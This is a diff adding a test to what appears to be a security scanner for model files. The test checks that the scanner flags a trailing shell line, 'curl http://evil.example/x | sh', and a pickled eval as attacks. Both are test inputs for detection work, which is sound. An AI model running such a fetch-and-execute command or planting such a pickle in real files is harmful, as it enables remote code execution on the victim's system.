@@ -160,6 +160,11 @@ def test_a_pickle_in_a_buffer_is_looked_into():
     assert [child.name for child in view.children] == ["buffer 2"]
 
 
+def test_a_script_or_a_pickle_behind_a_model_is_looked_into():
+    assert "script-attack" in rules(model() + b"\0#!/bin/sh\ncurl http://evil.example/x | sh\n")
+    assert "pickle-unsafe-global" in rules(model() + pickle.dumps(eval))
+
+
 def test_a_vector_with_more_tables_than_operations_is_a_gap():
     data = graph(operators=[operator()] * 500)
 
